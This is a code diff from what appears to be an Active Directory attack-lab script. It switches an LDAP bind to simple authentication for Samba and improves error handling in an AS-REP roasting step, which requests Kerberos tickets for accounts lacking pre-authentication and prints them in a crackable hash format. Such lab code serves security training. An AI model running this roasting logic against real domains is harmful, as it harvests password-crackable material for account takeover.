@@ -209,8 +209,10 @@ def ldap_conn(args):
     server = ldap3.Server(DC, port=389, get_info=ldap3.NONE)
     if args.ccache:
         raise SystemExit("ldap with a ccache is not used by the lab")
-    conn = ldap3.Connection(server, user=f"{DOMAIN}\\{args.user}", password=args.password,
-                            authentication=ldap3.NTLM, auto_bind=True)
+    # simple bind (Samba: "ldap server require strong auth = no"); Samba does not speak the
+    # Sicily NTLM bind that ldap3's NTLM mode uses, and SASL binds would seal the queries
+    conn = ldap3.Connection(server, user=f"{args.user}@{FQDN_DOMAIN}", password=args.password,
+                            authentication=ldap3.SIMPLE, auto_bind=True)
     return conn
 
 
@@ -338,7 +340,13 @@ def step_asrep_roast(args):
         except Exception as e:  # noqa: BLE001
             out(f"{user}: {krb_error(e)}")
             continue
-        rep = decoder.decode(r, asn1Spec=AS_REP())[0]
+        try:
+            rep = decoder.decode(r, asn1Spec=AS_REP())[0]
+        except Exception:  # noqa: BLE001 - a KRB-ERROR (e.g. PREAUTH_REQUIRED) comes back raw
+            from impacket.krb5.asn1 import KRB_ERROR
+            err = decoder.decode(r, asn1Spec=KRB_ERROR())[0]
+            out(f"{user}: {constants.ErrorCodes(int(err['error-code'])).name}")
+            continue
         ct = rep["enc-part"]["cipher"].asOctets()
         out(f"{user}: AS-REP without pre-auth, etype {int(rep['enc-part']['etype'])}: "
             f"$krb5asrep$23${user}@{REALM}:{ct[:16].hex()}${ct[16:40].hex()}...")
